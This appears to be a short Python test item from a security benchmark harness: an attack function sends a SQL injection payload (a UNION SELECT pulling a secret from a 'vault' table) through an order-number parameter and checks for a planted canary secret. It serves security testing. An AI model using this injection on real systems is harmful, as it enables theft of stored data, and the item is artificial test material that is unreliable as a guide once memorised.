"""The order number reads the vault."""

from quintain.judge import leaks


def attack(box, canary, rng):
    answer = box.http.get("/orders", params={"number": "0 UNION SELECT secret, 1 FROM vault"})
    return leaks(canary.vault_secret, answer, "the vault's secret")
